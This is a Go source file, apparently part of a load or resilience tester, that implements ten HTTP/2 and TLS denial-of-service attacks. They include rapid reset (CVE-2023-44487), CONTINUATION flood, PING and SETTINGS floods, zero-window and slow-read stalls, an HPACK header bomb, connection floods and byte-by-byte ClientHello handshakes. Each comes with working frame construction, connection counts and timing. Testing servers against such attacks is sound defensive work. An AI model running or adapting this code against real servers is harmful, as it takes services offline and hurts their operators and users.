package attacker

import (
	"bytes"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Kind is an attack.
type Kind string

// The attacks.
const (
	RapidReset     Kind = "rapid reset"        // CVE-2023-44487: each request is canceled at once
	Continuation   Kind = "CONTINUATION flood" // CVE-2023-45288 and others: a header block without an end
	Ping           Kind = "PING flood"         // CVE-2019-9512: the acknowledgements are not read
	Settings       Kind = "SETTINGS flood"     // CVE-2019-9515: the acknowledgements are not read
	EmptyFrames    Kind = "empty frames"       // CVE-2019-9518: DATA without data and without an end
	ZeroWindow     Kind = "zero window"        // CVE-2019-9517: responses are requested and the window stays 0
	HeaderBomb     Kind = "header bomb"        // CVE-2016-6581: a small block refers to a large field thousands of times
	SlowRead       Kind = "slow read"          // responses are requested, and nothing is read from the socket
	ConnFlood      Kind = "connection flood"   // connections that send nothing
	SlowHandshakes Kind = "slow TLS handshake" // a ClientHello, byte by byte
)

// Kinds are all attacks.
var Kinds = []Kind{RapidReset, Continuation, Ping, Settings, EmptyFrames, ZeroWindow, HeaderBomb, SlowRead, ConnFlood, SlowHandshakes}

// plan is what an attack does on each connection.
type plan struct {
	conns   int
	opening func(f *writer)     // sent once
	chunk   func(f *writer) int // sent again and again; returns the number of operations in it; nil: nothing more is sent
	pause   time.Duration       // between two chunks
	life    time.Duration       // the connection is closed after it; 0: never
	reads   bool                // what the server sends is read
}

const (
	requestsHeld = 50 // of ZeroWindow and SlowRead: their bodies fit the window of the connection
	bodySize     = 1024
	bombSize     = 3900 // bytes of a field in the dynamic table
	bombCopies   = 15000
)

var plans = map[Kind]plan{
	RapidReset: {conns: 4, reads: true, opening: start(), chunk: many(50, func(f *writer) {
		f.request(false)
		f.check(f.WriteRSTStream(f.id, http2.ErrCodeCancel))
	})},
	Continuation: {conns: 4, reads: true, opening: func(f *writer) {
		start()(f)
		f.id += 2
		f.check(f.WriteHeaders(http2.HeadersFrameParam{StreamID: f.id, BlockFragment: f.block(f.fields())}))
	}, chunk: many(1, func(f *writer) {
		var fields [][2]string
		for range 15 {
			fields = append(fields, [2]string{"x-filler", string(bytes.Repeat([]byte{'x'}, 1000))})
		}
		f.check(f.WriteContinuation(f.id, false, f.literals(fields)))
	})},
	Ping: {conns: 4, opening: start(), chunk: many(500, func(f *writer) { f.check(f.WritePing(false, [8]byte{1})) })},
	Settings: {conns: 4, opening: start(), chunk: many(500, func(f *writer) {
		f.check(f.WriteSettings(http2.Setting{ID: http2.SettingMaxHeaderListSize, Val: 1 << 16}))
	})},
	EmptyFrames: {conns: 4, reads: true, opening: func(f *writer) { start()(f); f.request(false) }, chunk: many(500, func(f *writer) {
		f.check(f.WriteData(f.id, false, nil))
	})},
	ZeroWindow: {conns: 50, reads: true, opening: func(f *writer) {
		start(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})(f)
		many(requestsHeld, func(f *writer) { f.request(true) })(f)
	}},
	HeaderBomb: {conns: 4, reads: true, opening: start(), chunk: many(1, func(f *writer) {
		f.id += 2
		f.bomb()
	})},
	SlowRead: {conns: 50, opening: func(f *writer) {
		start(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30})(f)
		many(requestsHeld, func(f *writer) { f.request(true) })(f)
	}},
	ConnFlood: {conns: 2000, reads: true, life: time.Second},
	SlowHandshakes: {conns: 500, reads: true, pause: 100 * time.Millisecond, opening: func(f *writer) {
		// A record of 512 bytes with a ClientHello of 508 bytes for TLS 1.2 and later. RFC 8446, sections 5.1 and 4.1.2.
		f.out.Write([]byte{0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3})
	}, chunk: many(1, func(f *writer) { f.out.WriteByte(0) })},
}

// start sends the preface and settings.
func start(settings ...http2.Setting) func(*writer) {
	return func(f *writer) {
		f.out.WriteString(http2.ClientPreface)
		f.check(f.WriteSettings(settings...))
	}
}

func many(n int, one func(*writer)) func(*writer) int {
	return func(f *writer) int {
		for range n {
			one(f)
		}
		return n
	}
}

// writer writes frames to a buffer.
type writer struct {
	*http2.Framer
	out     *bytes.Buffer
	encoded *bytes.Buffer
	encoder *hpack.Encoder
	id      uint32 // of the last stream
	body    []byte
	bombed  bool // the large field is in the dynamic table
}

func newWriter(body []byte) *writer {
	f := &writer{out: new(bytes.Buffer), encoded: new(bytes.Buffer), body: body}
	f.Framer = http2.NewFramer(f.out, nil)
	f.encoder = hpack.NewEncoder(f.encoded)
	f.id--
	return f
}

// check panics for a frame that the attack's own code makes wrongly: the buffer accepts all writes.
func (f *writer) check(err error) {
	if err != nil {
		panic(err)
	}
}

func (f *writer) fields() [][2]string {
	return [][2]string{
		{":method", "POST"},
		{":scheme", "http"},
		{":path", "/orders/1234"},
		{":authority", "orders.example"},
		{"content-type", "application/octet-stream"},
		{"content-length", "1024"},
	}
}

// block encodes fields.
func (f *writer) block(fields [][2]string) []byte {
	f.encoded.Reset()
	for _, field := range fields {
		f.check(f.encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}))
	}
	return f.encoded.Bytes()
}

// literals encodes fields without the dynamic table.
func (f *writer) literals(fields [][2]string) []byte {
	f.encoded.Reset()
	for _, field := range fields {
		f.check(f.encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1], Sensitive: true}))
	}
	return f.encoded.Bytes()
}

// request sends a request that the backend accepts. Without a body it stays open.
func (f *writer) request(body bool) {
	f.id += 2
	f.check(f.WriteHeaders(http2.HeadersFrameParam{StreamID: f.id, BlockFragment: f.block(f.fields()), EndHeaders: true}))
	if body {
		f.check(f.WriteData(f.id, true, f.body))
	}
}

// bomb sends a header block that refers to a large field again and again. RFC 7541, section 6.1: index 62 is the newest entry
// of the dynamic table.
func (f *writer) bomb() {
	fields := f.fields()
	block := bytes.Clone(f.literals(fields))
	if !f.bombed {
		f.bombed = true
		block = append(block, f.block([][2]string{{"x-bomb", string(bytes.Repeat([]byte{'x'}, bombSize))}})...)
	}
	block = append(block, bytes.Repeat([]byte{0x80 | 62}, bombCopies-len(block))...)
	f.check(f.WriteHeaders(http2.HeadersFrameParam{StreamID: f.id, BlockFragment: block, EndHeaders: true, EndStream: false}))
}
